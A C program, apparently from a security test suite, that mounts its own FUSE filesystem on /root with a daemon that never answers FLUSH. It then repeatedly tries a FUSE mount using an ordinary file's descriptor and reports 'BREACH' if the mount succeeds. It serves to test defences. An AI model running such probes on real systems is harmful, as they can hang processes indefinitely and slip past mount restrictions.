/*
 * notfuse COUNT: mounts its own FUSE on /root, whose daemon never answers a FLUSH, and opens a file in it. Then it asks
 * COUNT times for a mount of FUSE with the descriptor of that file. A process that closes it waits for ever.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"

enum { FILE_NODE = 2 };

static void reply(int device, uint64_t unique, int error, const void *data, size_t size)
{
    struct fuse_out_header header = {.len = sizeof header + size, .error = error, .unique = unique};
    struct iovec parts[] = {{&header, sizeof header}, {(void *)data, size}};

    if (writev(device, parts, 2) < 0)
        perror("reply");
}

static struct fuse_attr attributes(uint64_t node)
{
    return (struct fuse_attr){.ino = node, .mode = node == FILE_NODE ? S_IFREG | 0644 : S_IFDIR | 0755, .nlink = 1};
}

static void serve_one(int device)
{
    static char buffer[1 << 17];
    struct fuse_in_header *request = (struct fuse_in_header *)buffer;

    if (read(device, buffer, sizeof buffer) < (ssize_t)sizeof *request)
        _exit(0);
    if (request->opcode == FUSE_INIT) {
        struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
        reply(device, request->unique, 0, &init, sizeof init);
    } else if (request->opcode == FUSE_LOOKUP) {
        struct fuse_entry_out entry
            = {.nodeid = FILE_NODE, .attr = attributes(FILE_NODE), .entry_valid = 1000, .attr_valid = 1000};
        reply(device, request->unique, 0, &entry, sizeof entry);
    } else if (request->opcode == FUSE_GETATTR) {
        struct fuse_attr_out out = {.attr = attributes(request->nodeid), .attr_valid = 1000};
        reply(device, request->unique, 0, &out, sizeof out);
    } else if (request->opcode == FUSE_OPEN) {
        struct fuse_open_out out = {.fh = 1};
        reply(device, request->unique, 0, &out, sizeof out);
    } else if (request->opcode != FUSE_FLUSH && request->opcode != FUSE_RELEASE) {
        reply(device, request->unique, -ENOSYS, NULL, 0);
    }
}

int main(int argc, char **argv)
{
    char options[128];
    int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);

    if (device < 0)
        fail("/dev/fuse");
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
    if (mount("own", "/root", "fuse", 0, options) < 0)
        fail("mount");
    pid_t daemon = fork();
    if (daemon == 0)
        for (;;)
            serve_one(device);
    int file = open("/root/file", O_RDONLY | O_CLOEXEC);
    if (file < 0)
        fail("/root/file");
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", file);
    for (int i = 0; i < (argc > 1 ? atoi(argv[1]) : 1); i++)
        saw("%s", mount("other", "/root", "fuse", 0, options) < 0 ? strerror(errno) : "BREACH: mounted");
    report();
    fflush(stdout);
    /* The end of the daemon ends all waits, because nobody else has the device. */
    close(device);
    kill(daemon, SIGKILL);
    return 0;
}
